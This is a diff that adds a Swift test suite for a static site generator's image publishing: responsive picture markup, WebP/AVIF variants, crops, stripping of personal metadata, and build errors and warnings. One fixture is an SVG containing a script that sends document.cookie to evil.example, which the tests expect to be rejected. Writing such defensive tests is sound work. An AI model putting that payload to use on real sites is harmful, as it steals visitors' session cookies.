@@ -1,0 +1,204 @@
+import Foundation
+import Testing
+@testable import SiteGen
+
+/// A site with photos, built in memory: the markup pages show them with, the files that are
+/// published (and the ones that are not), and the messages editors get about their images.
+@Suite struct ImagePublishingTests {
+    static let stadt = TestPhoto.make(width: 1600, height: 1200, seed: 2, personalData: true)
+    /// Seen 600 × 800, stored on its side with orientation 6, as a phone stores it.
+    static let hochkant = TestPhoto.make(width: 600, height: 800, seed: 3, orientation: 6, personalData: true)
+
+    func post(_ body: String, frontMatter: String = "") -> String {
+        "---\ntitle: Fotos\ndate: 2025-03-01\nfields: [daten-und-plattformen]\n\(frontMatter)---\n\(body)"
+    }
+
+    func build(_ extra: [String: String], photos: [String: [UInt8]] = [:], siteYML: String = "") -> (BuildReport, [String: [UInt8]]) {
+        var files = TestSupport.minimalSite
+        files["site.yml"]! += siteYML
+        for (k, v) in extra { files[k] = v }
+        let (report, sink) = TestSupport.buildInMemory(files, photos: photos)
+        return (report, sink.files)
+    }
+
+    func page(_ files: [String: [UInt8]], _ path: String) -> String { String(decoding: files[path] ?? [], as: UTF8.self) }
+
+    /// The `<picture>` elements of a page, each as its source.
+    func pictures(_ html: String) -> [String] {
+        html.components(separatedBy: "<picture>").dropFirst().map { $0.components(separatedBy: "</picture>")[0] }
+    }
+
+    /// The value of `name="…"` in `tag`.
+    func attribute(_ name: String, in tag: String) -> String? {
+        guard let r = tag.firstRange(of: " \(name)=\"") else { return nil }
+        return String(tag[r.upperBound...].prefix { $0 != "\"" })
+    }
+
+    @Test func photosInTheTextArePicturesWithSizesFormatsAndAltText() throws {
+        let (report, files) = build(["posts/2025/fotos.md": post("![Blick über die Stadt](../../images/stadt.jpg)\n\nText.\n\n![Ein Turm, hochkant](turm.jpg)\n")],
+                                    photos: ["images/stadt.jpg": Self.stadt, "posts/2025/turm.jpg": Self.hochkant])
+        #expect(report.succeeded, "\(report.diagnostics)")
+        let pictures = self.pictures(page(files, "blog/2025/fotos/index.html"))
+        try #require(pictures.count == 2)
+        let (first, second) = (pictures[0], pictures[1])
+        // WebP first, then the original's format; the widths of site.yml up to the photo's own.
+        let webp = try #require(first.split(separator: "<img").first.map(String.init))
+        #expect(attribute("type", in: webp) == "image/webp")
+        let webpSet = try #require(attribute("srcset", in: webp))
+        #expect(webpSet.split(separator: ",").map { $0.split(separator: " ").last.map(String.init) ?? "" } == ["480w", "960w", "1440w", "1600w"])
+        #expect(webpSet.hasPrefix("/images/stadt-480.") && webpSet.contains(".webp 480w"))
+        let img = String(first[first.firstRange(of: "<img")!.lowerBound...])
+        #expect(attribute("srcset", in: img)?.contains(".jpg 1600w") == true)
+        #expect(attribute("src", in: img)?.hasPrefix("/images/stadt-960.") == true)
+        #expect(attribute("sizes", in: img) == ImageSettings().sizes && attribute("sizes", in: webp) == ImageSettings().sizes)
+        #expect(attribute("width", in: img) == "1600" && attribute("height", in: img) == "1200")
+        #expect(attribute("alt", in: img) == "Blick über die Stadt" && attribute("decoding", in: img) == "async")
+        // The page's first image is fetched at once, the next one when it is scrolled near.
+        #expect(attribute("loading", in: img) == nil)
+        let turm = String(second[second.firstRange(of: "<img")!.lowerBound...])
+        #expect(attribute("loading", in: turm) == "lazy")
+        #expect(attribute("width", in: turm) == "600" && attribute("height", in: turm) == "800", "the size as shown, upright")
+        #expect(attribute("src", in: turm)?.hasPrefix("/posts/2025/turm-600.") == true)
+        // Every address in the markup is a file of the site, free of the owner's data; the originals are not.
+        for address in (webpSet + ", " + attribute("srcset", in: img)!).split(separator: ",") {
+            let path = String(address.split(separator: " ")[0].dropFirst())
+            let bytes = try #require(files[path], "\(path) missing")
+            #expect(ImageMetadata.findings(bytes) == [], "\(path)")
+        }
+        #expect(files["images/stadt.jpg"] == nil && files["posts/2025/turm.jpg"] == nil)
+        // Feed readers get every address absolute, srcset's too.
+        let feed = page(files, "blog/feed.xml")
+        #expect(feed.contains("srcset=&quot;https://example.org/images/stadt-480.") && !feed.contains(", /images/stadt-"))
+        let published = files.filter { ImageFormat(path: $0.key)?.isProcessed == true }
+        #expect(published.count == 8 + 4, "\(published.keys.sorted())")
+        #expect(published.allSatisfy { ImageMetadata.findings($0.value) == [] })
+    }
+
+    @Test func aPostsPictureIsItsHeroItsCardsCropAndItsLinkPreview() throws {
+        let text = post("Text.\n\n![Im Text](../../images/stadt.jpg)\n", frontMatter: "image: /images/titel.jpg\nimage_alt: Die Stadt am Abend\n")
+        let (report, files) = build(["posts/2025/fotos.md": text],
+                                    photos: ["images/titel.jpg": TestPhoto.make(width: 2400, height: 1600, seed: 4), "images/stadt.jpg": Self.stadt])
+        #expect(report.succeeded, "\(report.diagnostics)")
+        let html = page(files, "blog/2025/fotos/index.html")
+        let pictures = self.pictures(html)
+        try #require(pictures.count == 2)
+        let hero = String(pictures[0][pictures[0].firstRange(of: "<img")!.lowerBound...])
+        #expect(hero.contains("class=\"article-image\"") && attribute("loading", in: hero) == nil)
+        #expect(attribute("width", in: hero) == "1920" && attribute("height", in: hero) == "1280")
+        #expect(attribute("alt", in: hero) == "Die Stadt am Abend")
+        // The hero is the page's first image, so the text's first one waits.
+        #expect(pictures[1].contains("loading=\"lazy\""))
+        // Link previews and search engines get the 1200 × 630 crop, as an absolute address.
+        let og = try #require(html.firstRange(of: "<meta property=\"og:image\" content=\"").map { String(html[$0.upperBound...].prefix { $0 != "\"" }) })
+        #expect(og.hasPrefix("https://example.org/images/titel-1200x630.") && og.hasSuffix(".jpg"))
+        #expect(html.contains("\"image\":\"\(og)\""), "JSON-LD names the same image")
+        let crop = try #require(files[String(og.dropFirst("https://example.org/".count))])
+        let header = try ImageCodec.header(crop).get()
+        #expect(header.width == 1200 && header.height == 630)
+        // Cards show the crop, lazily.
+        let card = try #require(self.pictures(page(files, "blog/index.html")).first)
+        #expect(card.contains("class=\"card-image\"") && card.contains("loading=\"lazy\""))
+        #expect(card.contains("-600x315.") && card.contains("-1200x630.") && card.contains("width=\"1200\" height=\"630\""))
+    }
+
+    @Test func originalsArePublishedOnlyWhenTheSiteSaysSoAndThenWithoutPersonalData() throws {
+        let text = post("![Die Stadt](../../images/stadt.jpg) und [in voller Größe](../../images/stadt.jpg)\n")
+        let (_, without) = build(["posts/2025/fotos.md": text], photos: ["images/stadt.jpg": Self.stadt])
+        #expect(without["images/stadt.jpg"] == nil)
+        let html = page(without, "blog/2025/fotos/index.html")
+        let anchor = try #require(html.firstRange(of: "\">in voller Größe</a>").map { html[..<$0.lowerBound] })
+        let link = anchor[anchor.range(of: "href=\"", options: .backwards)!.upperBound...]
+        #expect(link.hasPrefix("/images/stadt-1600.") && link.hasSuffix(".jpg"), "a link leads to the largest size")
+
+        let (report, with) = build(["posts/2025/fotos.md": text], photos: ["images/stadt.jpg": Self.stadt],
+                                   siteYML: "images:\n  keep_originals: true\n")
+        #expect(report.succeeded, "\(report.diagnostics)")
+        let original = try #require(with["images/stadt.jpg"])
+        #expect(original != Self.stadt && ImageMetadata.findings(original) == [])
+        let header = try ImageCodec.header(original).get()
+        #expect(header.width == 1600 && header.height == 1200)
+        #expect(page(with, "blog/2025/fotos/index.html").contains("<a href=\"/images/stadt.jpg\">"))
+    }
+
+    @Test func imagesNoPageUsesAreNamedAndPhotosAmongThemNotPublished() {
+        let svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"1\" height=\"1\"></svg>"
+        let (report, files) = build(["posts/2025/fotos.md": post("Kein Bild.\n"), "images/grafik.svg": svg],
+                                    photos: ["images/unbenutzt.jpg": Self.stadt, "posts/2025/daneben.jpg": Self.hochkant])
+        #expect(report.succeeded)
+        let warnings = report.diagnostics.warningMessages
+        #expect(warnings.contains("/c/images/unbenutzt.jpg: warning: " + SiteRenderer.unusedImageMessage), "\(warnings)")
+        #expect(warnings.contains("/c/posts/2025/daneben.jpg: warning: " + SiteRenderer.unlinkedMessage))
+        #expect(warnings.contains("/c/images/grafik.svg: warning: " + SiteRenderer.unusedGraphicMessage))
+        #expect(!files.keys.contains { $0.contains("unbenutzt") || $0.contains("daneben") })
+        #expect(files["images/grafik.svg"] != nil, "an SVG in images/ is still published as it is")
+    }
+
+    @Test func brokenAndMisnamedImagesAreErrorsNamingTheFile() {
+        let photo = TestPhoto.make(width: 800, height: 600)
+        let text = post("![a](../../images/kaputt.jpg) ![b](../../images/falsch.jpg) ![c](../../images/text.jpg) ![d](../../images/skript.svg)\n")
+        let script = "<svg xmlns=\"http://www.w3.org/2000/svg\">\n<script>fetch('//evil.example/?'+document.cookie)</script>\n</svg>"
+        let (report, _) = build(["posts/2025/fotos.md": text, "images/text.jpg": "<html>Fehler 404</html>", "images/skript.svg": script],
+                                photos: ["images/kaputt.jpg": Array(photo.prefix(photo.count / 2)), "images/falsch.jpg": TestPhoto.make(format: .png)])
+        #expect(!report.succeeded)
+        let errors = report.diagnostics.errorMessages
+        #expect(errors.contains { $0.hasPrefix("/c/images/kaputt.jpg: error: cannot be decoded as a JPEG image (") }, "\(errors)")
+        #expect(errors.contains("/c/images/falsch.jpg: error: is named as a JPEG image, but is a PNG image; rename it to end in .png, or export it again as JPEG"))
+        #expect(errors.contains("/c/images/text.jpg: error: is not a JPEG image (its bytes are no image format); export it again as JPEG, or remove it"))
+        #expect(errors.contains { $0.hasPrefix("/c/images/skript.svg:2: error: SVG contains a <script> element") })
+    }
+
+    @Test func anOriginalOverTheBudgetIsAWarning() {
+        let text = post("![a](../../images/stadt.jpg)\n")
+        let (report, files) = build(["posts/2025/fotos.md": text], photos: ["images/stadt.jpg": Self.stadt],
+                                    siteYML: "images:\n  budget_megapixels: 1\n")
+        #expect(report.succeeded && files.keys.contains { $0.hasPrefix("images/stadt-480.") })
+        #expect(report.diagnostics.warningMessages.contains("/c/images/stadt.jpg: warning: has 1,9 megapixels, more than the 1 an original may have (images.budget_megapixels in site.yml); export it smaller, e.g. 4000 pixels wide"))
+        let (bytesReport, _) = build(["posts/2025/fotos.md": text], photos: ["images/stadt.jpg": Self.stadt + [UInt8](repeating: 0, count: 1_000_000)],
+                                     siteYML: "images:\n  budget_mb: 1\n")
+        #expect(bytesReport.diagnostics.warningMessages.contains { $0.hasPrefix("/c/images/stadt.jpg: warning: is 1,") && $0.contains("more than the 1 MB an original may have") })
+    }
+
+    @Test func theSettingsAreChecked() {
+        let (report, _) = build([:], siteYML: "images:\n  widths: [10, 3000]\n  quality: 0\n  groesse: 3\n")
+        let messages = report.diagnostics.map(\.description)
+        #expect(messages.contains { $0.contains("site.yml:4: error: images.widths must list widths in pixels from 16 to 2560") }, "\(messages)")
+        #expect(messages.contains { $0.contains("site.yml:5: error: images.quality must be from 1 to 100") })
+        #expect(messages.contains { $0.contains("site.yml:6: warning: unknown key 'groesse'") })
+    }
+
+    @Test func widthsAndAVIFFollowTheSettings() throws {
+        let (report, files) = build(["posts/2025/fotos.md": post("![Die Stadt](../../images/stadt.jpg)\n")], photos: ["images/stadt.jpg": Self.stadt],
+                                    siteYML: "images:\n  widths: [320, 800]\n  avif: true\n  sizes: \"100vw\"\n")
+        #expect(report.succeeded, "\(report.diagnostics)")
+        let picture = try #require(pictures(page(files, "blog/2025/fotos/index.html")).first)
+        #expect(picture.hasPrefix("<source type=\"image/avif\" srcset=\"/images/stadt-320."))
+        #expect(picture.contains("<source type=\"image/webp\"") && picture.contains("sizes=\"100vw\""))
+        #expect(picture.contains(".jpg 800w\"") && !picture.contains("1600w"))
+        let avif = files.filter { $0.key.hasSuffix(".avif") }
+        #expect(avif.count == 2 && avif.values.allSatisfy { ImageMetadata.personalStrings($0) == [] })
+    }
+
+    /// The example site's photos carry a (made-up) camera, owner and GPS position, as editors'
+    /// photos do; the site carries none of it.
+    @Test func noImageOfTheExampleSiteHoldsGPSOrCameraData() throws {
+        let source = try [UInt8](Data(contentsOf: URL(fileURLWithPath: TestSupport.exampleContent + "/images/stadtsilhouette-abend.jpg")))
+        #expect(ImageMetadata.personalStrings(source).contains("GeheimCam"))
+        let builder = Builder(location: SiteLocation(content: TestSupport.exampleContent, templates: TestSupport.templates),
+                              options: BuildOptions(now: TestSupport.now))
+        let sink = MemorySink()
+        let (report, _) = builder.run(into: sink)
+        #expect(report.succeeded, "\(report.diagnostics)")
+        let photos = sink.files.filter { ImageFormat(path: $0.key)?.isProcessed == true }
+        #expect(photos.count == 20, "\(photos.keys.sorted())")
+        for (path, bytes) in photos { #expect(ImageMetadata.findings(bytes) == [], "\(path)") }
+        #expect(sink.files["images/stadtsilhouette-abend.jpg"] == nil && sink.files["posts/2025/messmast-hochkant.jpg"] == nil)
+    }
+
+    @Test func rawHTMLImagesWithoutAltAreNamed() {
+        let (report, _) = build(["posts/2025/fotos.md": post("Text\n\n<p><img src=\"/images/x.svg\"></p>\n\n<img src=\"/images/x.svg\" alt=\"\">\n")],
+                                siteYML: "unsafe_html: true\n")
+        #expect(report.diagnostics.warningMessages.filter { $0.contains("no alt attribute") } == [
+            "/c/posts/2025/fotos.md:8: warning: image in raw HTML has no alt attribute, so screen readers read out its address; add alt=\"…\" (alt=\"\" for decoration)",
+        ])
+    }
+}
